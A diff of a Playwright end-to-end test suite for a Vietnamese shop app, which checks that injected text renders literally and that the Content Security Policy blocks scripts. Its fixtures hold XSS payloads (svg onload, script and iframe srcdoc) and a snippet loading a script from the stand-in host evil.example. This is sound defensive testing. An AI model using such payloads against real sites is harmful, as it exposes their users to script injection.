@@ -1,11 +1,10 @@
+import { mkdtempSync, rmSync } from 'node:fs'
+import { tmpdir } from 'node:os'
 import { join } from 'node:path'
-import { DatabaseSync } from 'node:sqlite'
 import { expect, type Page } from 'playwright/test'
-import type { Order } from '../../src/domain/tables/orders.ts'
-import type { Product } from '../../src/domain/tables/products.ts'
-import type { TableName } from '../../src/domain/tables.ts'
-import { digestsOf } from '../../src/server/store/facets.ts'
-import { openDay, startDay, walkTo } from './stage/phone.ts'
+import { writeBarcodeClip } from '../support/barcode-clip.ts'
+import { changeRows } from './stage/change-rows.ts'
+import { openDay, walkTo } from './stage/phone.ts'
 import { screensOf } from './stage/screens.ts'
 import { test } from './stage/stage.ts'
 
@@ -15,16 +14,6 @@ const texts = {
   address: `"><svg onload="window.hacked='địa chỉ'">12 Lê Lợi`,
   product: `<script>window.hacked='hàng'</script>Áo {{7*7}}`,
   note: `<iframe srcdoc="<script>parent.hacked='ghi chú'</script>"></iframe>Giao giờ hành chính`,
-}
-
-/** Writes rows past the server, as a marketplace or an import might bring them. */
-function changeRow<R extends object>(db: DatabaseSync, table: TableName, key: string, change: (row: R) => R) {
-  const found = db.prepare('select doc from rows where tbl = ? and key = ?').get(table, key)
-  const row = change(JSON.parse(String(found!['doc'])) as R)
-  const { digest, plainDigest } = digestsOf(table, row)
-  db.prepare('update rows set doc = ?, digest = ?, plain_digest = ? where tbl = ? and key = ?').run(
-    ...[JSON.stringify(row), digest, plainDigest, table, key],
-  )
 }
 
 interface Watched {
@@ -63,26 +52,30 @@ test('@both texts that were written to run are shown letter for letter, in the l
 }) => {
   const { code, lines } = shop.orders.single
   const floor = await openFloor({
-    prepare(folder) {
-      const db = new DatabaseSync(join(folder, 'khotay.db'))
-      changeRow<Order>(db, 'orders', code, (order) => ({
-        ...order,
-        customer: { ...order.customer, name: texts.customer, address: texts.address },
-        swItems: order.swItems.map((item) => ({ ...item, name: texts.product })),
-        noteCustomer: texts.note,
-        noteShop: texts.note,
-        historyState: order.historyState.map((entry) => ({ ...entry, note: texts.note })),
-      }))
-      changeRow<Product>(db, 'products', lines[0]!.productCode, (product) => ({
-        ...product,
-        name: texts.product,
-      }))
-      db.close()
-    },
+    prepare: (folder) =>
+      changeRows(folder, [
+        {
+          table: 'orders',
+          key: code,
+          become: (order) => ({
+            ...order,
+            customer: { ...order.customer, name: texts.customer, address: texts.address },
+            swItems: order.swItems.map((item) => ({ ...item, name: texts.product })),
+            noteCustomer: texts.note,
+            noteShop: texts.note,
+            historyState: order.historyState.map((entry) => ({ ...entry, note: texts.note })),
+          }),
+        },
+        {
+          table: 'products',
+          key: lines[0]!.productCode,
+          become: (product) => ({ ...product, name: texts.product }),
+        },
+      ]),
   })
-  const { page } = await takeDevice()
+  const { page } = await takeDevice({ of: 'kho' })
   const watched = await watch(page)
-  await startDay(page, floor.address, 'chu')
+  await openDay(page)
   const shown: [path: string, ...texts: string[]][] = [
     [`/orders?q=${code}`, texts.customer],
     [`/orders/${code}`, texts.customer, texts.product, texts.note],
@@ -96,12 +89,25 @@ test('@both texts that were written to run are shown letter for letter, in the l
   expect(watched).toEqual({ violations: [], dialogs: [] })
 })
 
-test('@both no screen breaks the policy, and the socket is open under it', async ({
-  floor: { orders },
+test('@both no screen asks another origin for anything, throws or breaks the policy, and the socket is open under it', async ({
+  floor: { address, orders },
   takeDevice,
 }) => {
-  const { page } = await takeDevice({ of: 'kho' })
+  const folder = mkdtempSync(join(tmpdir(), 'khotay-clip-'))
+  const clip = join(folder, 'shelf.mjpeg')
+  const size = { width: 640, height: 480, fps: 30 }
+  await writeBarcodeClip(clip, [{ text: '1', symbology: 'qrcode', frames: 1, blankFrames: 10 }], size)
+  const { page, context } = await takeDevice({ of: 'kho', clip })
   const watched = await watch(page)
+  const offences: string[] = []
+  context.on('request', (request) => {
+    if (!request.url().startsWith(address) && !/^(blob|data):/.test(request.url()))
+      offences.push(`asks ${request.url()}`)
+  })
+  page.on('pageerror', (error) => offences.push(`throws ${error.message}`))
+  page.on('console', (message) => {
+    if (message.type() === 'error') offences.push(`logs ${message.text()}`)
+  })
   const lines: { heard: number }[] = []
   page.on('websocket', (socket) => {
     const line = { heard: 0 }
@@ -112,9 +118,13 @@ test('@both no screen breaks the policy, and the socket is open under it', async
   await expect.poll(() => lines.some(({ heard }) => heard > 1)).toBe(true)
   for (const { path, shows } of screensOf(orders)) {
     await walkTo(page, path)
-    await expect(page.getByText(shows).first()).toBeAttached()
+    await expect(page.getByText(shows).first()).toBeVisible()
+    if (path === '/scan')
+      await expect(page.getByText('Đưa mã vận đơn hoặc mã sản phẩm vào khung')).toBeVisible()
   }
+  expect(offences).toEqual([])
   expect(watched).toEqual({ violations: [], dialogs: [] })
+  rmSync(folder, { recursive: true, force: true })
 })
 
 test('the policy holds off what an injected text would do', async ({ floor: { address }, takeDevice }) => {
@@ -128,6 +138,7 @@ test('the policy holds off what an injected text would do', async ({ floor: { ad
   })
   await page.goto(`${address}/sign-in`)
   await expect(page.getByLabel('Tên đăng nhập')).toBeVisible()
+  expect(watched, 'the sign-in itself').toEqual({ violations: [], dialogs: [] })
   const acts: Record<string, string> = {
     'script-src-elem inline': `const tag = document.createElement('script'); tag.textContent = 'window.hacked = 1'; document.body.append(tag)`,
     'script-src-elem https://evil.example/x.js': `const tag = document.createElement('script'); tag.src = 'https://evil.example/x.js'; document.body.append(tag)`,
